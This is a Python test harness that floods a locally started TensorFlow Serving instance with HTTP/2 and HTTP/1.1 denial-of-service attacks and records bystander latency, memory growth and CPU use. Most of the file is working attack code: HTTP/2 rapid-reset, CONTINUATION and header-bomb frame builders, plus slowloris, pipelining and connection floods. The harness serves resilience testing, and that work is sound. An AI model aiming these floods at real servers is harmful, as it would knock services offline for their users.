"""Attacks on one server, one after the other: what memory they take, and what bystanders notice.

usage: serve_attacks.py [--seconds S] [--only NAME,...] [--json FILE]

Bystanders ask a small model over gRPC, 200 times a second: first alone, then while an attacker, a process of its own,
sends as much as it can, on one connection after the other, to another server on this machine ("beside": what two processes
more on the same cores cost), then while it attacks theirs. Where there are four cores, the server has two of them.
"""
import argparse
import contextlib
import itertools
import json
import os
import pathlib
import re
import socket
import ssl
import struct
import subprocess
import sys
import tempfile
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADERS, PRIORITY, RESET, SETTINGS, PING, WINDOW, CONTINUATION, DATA = 1, 2, 3, 4, 6, 8, 9, 0
IN_PIECE = 200  # frames sent at once
RATE = 200  # of bystanders


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def literal(name, value):
    return b"\0" + bytes([len(name)]) + name + bytes([len(value)]) + value


CALL = b"".join(literal(*field) for field in (
    (b":method", b"POST"), (b":scheme", b"http"), (b":authority", b"h"), (b"content-type", b"application/grpc"),
    (b":path", b"/tensorflow.serving.PredictionService/Predict"), (b"te", b"trailers")))


def field(number, payload):
    """A field of protobuf that is a message or bytes."""
    return bytes([number << 3 | 2, len(payload)]) + payload


def question(model):
    """Of gRPC: a PredictRequest with x = [1]."""
    shape = field(2, b"\x08\x01")
    tensor = b"\x08\x01" + field(2, shape) + field(5, struct.pack("<f", 1))
    message = field(1, field(1, model)) + field(2, field(1, b"x") + field(2, tensor))
    return b"\0" + struct.pack(">I", len(message)) + message


def open_streams(i):
    return frame(HEADERS, 4, 2 * i + 1, CALL)


def rapid_reset(i):
    return frame(HEADERS, 4, 2 * i + 1, CALL) + frame(RESET, 0, 2 * i + 1, struct.pack(">I", 8))


def reset_requests(i):
    """Whole requests, taken back at once."""
    body = frame(DATA, 1, 2 * i + 1, question(b"half"))
    return frame(HEADERS, 4, 2 * i + 1, CALL) + body + frame(RESET, 0, 2 * i + 1, struct.pack(">I", 8))


def pings(_):
    return frame(PING, 0, 0, bytes(8))


def settings(_):
    return frame(SETTINGS, 0, 0)


def many_settings(_):
    return frame(SETTINGS, 0, 0, b"\0\3\0\0\0\1" * 100)


def continuation(i):
    return frame(HEADERS, 0, 1, CALL) if i == 0 else frame(CONTINUATION, 0, 1, literal(b"x", b"y" * 100))


def empty_continuation(i):
    return frame(HEADERS, 0, 1, CALL) if i == 0 else frame(CONTINUATION, 0, 1)


def empty_data(i):
    return frame(HEADERS, 4, 1, CALL) if i == 0 else frame(DATA, 0, 1)


def windows(_):
    return frame(WINDOW, 0, 0, struct.pack(">I", 1))


def priorities(i):
    return frame(PRIORITY, 0, 2 * (i % 1000) + 1, struct.pack(">IB", 2 * (i * 7 % 1000), i % 256))


def header_bomb(i):
    entry = b"\x40\x01n" + bytes([100]) + b"v" * 100
    return frame(HEADERS, 4, 2 * i + 1, CALL + entry + b"\xbe" * 8000)


def empty_headers(i):
    return frame(HEADERS, 4, 2 * i + 1, CALL + literal(b"", b"") * 60)


def large_announced(i):
    """Requests of a gigabyte that never come."""
    return frame(HEADERS, 4, 2 * i + 1, CALL) + frame(DATA, 0, 2 * i + 1, b"\0" + struct.pack(">I", 1 << 30))


def unread_answers(i):
    """Megabytes are asked for, and no window is given."""
    start = frame(SETTINGS, 0, 0, b"\0\4\0\0\0\0") if i == 0 else b""
    return start + frame(HEADERS, 4, 2 * i + 1, CALL) + frame(DATA, 1, 2 * i + 1, question(b"large"))


def garbage(_):
    return b"g" * 1000


FLOODS = {one.__name__: one for one in (
    open_streams, rapid_reset, reset_requests, pings, settings, many_settings, continuation, empty_continuation, empty_data,
    windows, priorities, header_bomb, empty_headers, large_announced, unread_answers)}


def flood(make, address, until):
    """Frames on one connection after the other, each until the server ends it."""
    while time.monotonic() < until:
        with contextlib.suppress(OSError), socket.create_connection(address, 2) as one:
            one.sendall(PREFACE + frame(SETTINGS, 0, 0))
            one.settimeout(0.5)  # where the server takes no more it waits
            for start in itertools.count(0, IN_PIECE):
                if time.monotonic() > until:
                    break
                one.sendall(b"".join(make(i) for i in range(start, start + IN_PIECE)))
        time.sleep(0.001)


def dawdle(beginning, address, until):
    """Connections that send a byte now and then."""
    while time.monotonic() < until:
        ones = []
        with contextlib.suppress(OSError):
            for _ in range(300):
                ones.append(socket.create_connection(address, 2))
                ones[-1].sendall(beginning)
            while time.monotonic() < until:
                for one in ones:
                    one.sendall(b"x")
                time.sleep(0.2)
        for one in ones:
            one.close()


HALF_HEAD = b"POST /v1/models/half:predict HTTP/1.1\r\nHost: h\r\nX: "
HALF_BODY = b"POST /v1/models/half:predict HTTP/1.1\r\nHost: h\r\nContent-Length: 100000\r\n\r\n{"


def no_http(address, until):
    while time.monotonic() < until:
        with contextlib.suppress(OSError), socket.create_connection(address, 2) as one:
            one.sendall(b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + b"g" * 500)
            one.recv(1000)


def connections(address, until):
    """One after the other, without a word."""
    while time.monotonic() < until:
        with contextlib.suppress(OSError):
            socket.create_connection(address, 2).close()


def pipelined(address, until):
    """Requests without end, of whose answers none is read."""
    request = b"GET /v1/models/half/metadata HTTP/1.1\r\nHost: h\r\n\r\n" * 100
    while time.monotonic() < until:
        with contextlib.suppress(OSError), socket.create_connection(address, 2) as one:
            one.settimeout(0.5)
            while time.monotonic() < until:
                one.sendall(request)


def handshakes(address, until):
    """TLS where there is none."""
    context = ssl.create_default_context()
    while time.monotonic() < until:
        with contextlib.suppress(OSError), socket.create_connection(address, 2) as one:
            context.wrap_socket(one, server_hostname="h")


ATTACKS = {
    **{name: ("grpc", lambda address, until, make=make: flood(make, address, until)) for name, make in FLOODS.items()},
    "no_http2": ("grpc", lambda address, until: flood(garbage, address, until)),
    "connections": ("grpc", connections),
    "rest_slow_headers": ("rest", lambda address, until: dawdle(HALF_HEAD, address, until)),
    "rest_slow_bodies": ("rest", lambda address, until: dawdle(HALF_BODY, address, until)),
    "rest_unread_answers": ("rest", pipelined),
    "rest_no_http": ("rest", no_http),
    "rest_tls": ("rest", handshakes),
    "rest_connections": ("rest", connections),
}


@contextlib.contextmanager
def on_cores(*wanted):
    """What is started meanwhile runs there, if there are enough."""
    all_cores = os.sched_getaffinity(0)
    if len(all_cores) >= 4:
        ordered = sorted(all_cores)
        os.sched_setaffinity(0, {ordered[i] for i in wanted})
    yield
    os.sched_setaffinity(0, all_cores)


def large_answer(tf):
    x = tf.placeholder(tf.float32, [None], name="x")
    return {"x": x}, {"y": tf.fill([1_000_000], x[0])}


class Victim:
    def __init__(self, folder):
        import serving
        self.serving, self.folder = serving, folder
        for name, make in (("half", serving.half_plus(2)), ("large", large_answer)):
            if not (folder / name).exists():
                serving.save(folder / name / "1", make)
        models = "".join(f'config {{ name: "{name}" base_path: "{folder / name}" model_platform: "tensorflow" }}\n'
                         for name in ("half", "large"))
        (folder / "models.config").write_text("model_config_list {\n" + models + "}\n")
        (folder / "monitoring.config").write_text("prometheus_config { enable: true }")

    def start(self):
        with on_cores(0, 1):
            return self.serving.Server(self.folder, f"--model_config_file={self.folder / 'models.config'}",
                                       f"--monitoring_config_file={self.folder / 'monitoring.config'}")

    def bystanders(self, server, seconds):
        with on_cores(2):
            return self.serving.start_load(server.grpc, "half", "h2", seconds=seconds, rate=RATE, connections=2, in_flight=4)

    def ends(self, server):
        """Of connections, by reason."""
        text = server.get("/monitoring/prometheus/metrics").decode()
        found = re.findall(r'connections_ended_count\{(.*)\} (\d+)', text)
        return {re.search(r'reason="(\w+)"', labels).group(1): int(count) for labels, count in found if int(count)}

    def attack(self, name, server, seconds):
        address = getattr(server, ATTACKS[name][0])
        with on_cores(3):
            return subprocess.Popen([sys.executable, __file__, "--attack", name, "--address", address,
                                     "--seconds", str(seconds)])

    def beside(self, name, server, seconds):
        """What bystanders find while another server is attacked."""
        with self.start() as other:
            attacker = self.attack(name, other, seconds)
            found = self.serving.finish_load(self.bystanders(server, seconds))
            attacker.wait()
            return found

    def attacked_by(self, name, seconds):
        with self.start() as server:
            self.serving.finish_load(self.bystanders(server, 0.5))
            quiet = self.serving.finish_load(self.bystanders(server, seconds))
            beside = self.beside(name, server, seconds)
            before = most = server.resident_bytes()
            load = self.bystanders(server, seconds)
            attacker = self.attack(name, server, seconds)
            cpu = server.cpu_seconds()
            while load.poll() is None:
                most = max(most, server.resident_bytes())
                time.sleep(0.02)
            cpu = server.cpu_seconds() - cpu
            noisy = self.serving.finish_load(load)
            attacker.wait()
            time.sleep(2.5)
            return {"attack": name, "quiet_p99_us": quiet["p99_us"],
                    "beside_p99_us": beside["p99_us"], "p99_us": noisy["p99_us"], "max_us": noisy["max_us"],
                    "asked": noisy["requests"], "failed": noisy["failed"], "bytes_before": before,
                    "bytes_more": most - before, "bytes_left": server.resident_bytes() - before,
                    "cores": cpu / seconds, "ends": self.ends(server), "exit_status": server.stop()}


def row(found):
    reasons = ", ".join(f"{name} {count}" for name, count in found["ends"].items())
    return (f"| {found['attack'].replace('_', ' ')} | {found['quiet_p99_us'] / 1000:.2f} | "
            f"{found['beside_p99_us'] / 1000:.2f} | {found['p99_us'] / 1000:.2f} | "
            f"{found['failed']} of {found['asked']} | {found['bytes_more'] / 2**20:.0f} | {found['bytes_left'] / 2**20:.0f} | "
            f"{found['cores']:.1f} | {reasons} |")


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("--seconds", type=float, default=4)
    parser.add_argument("--only")
    parser.add_argument("--json", type=pathlib.Path)
    parser.add_argument("--models", type=pathlib.Path, help="where models are, or are made")
    parser.add_argument("--attack", help=argparse.SUPPRESS)
    parser.add_argument("--address", help=argparse.SUPPRESS)
    args = parser.parse_args()
    if args.attack:
        host, port = args.address.rsplit(":", 1)
        return ATTACKS[args.attack][1]((host, int(port)), time.monotonic() + args.seconds)
    print("| attack | p99 without, ms | beside, ms | p99, ms | failed | MiB more | MiB that stay | cores | connections ended |")
    print("|---|---|---|---|---|---|---|---|---|", flush=True)
    all_found = []
    with tempfile.TemporaryDirectory() as folder:
        victim = Victim(args.models or pathlib.Path(folder))
        for name in args.only.split(",") if args.only else ATTACKS:
            all_found.append(victim.attacked_by(name, args.seconds))
            print(row(all_found[-1]), flush=True)
    if args.json:
        args.json.write_text(json.dumps(all_found, indent=1))


if __name__ == "__main__":
    main()
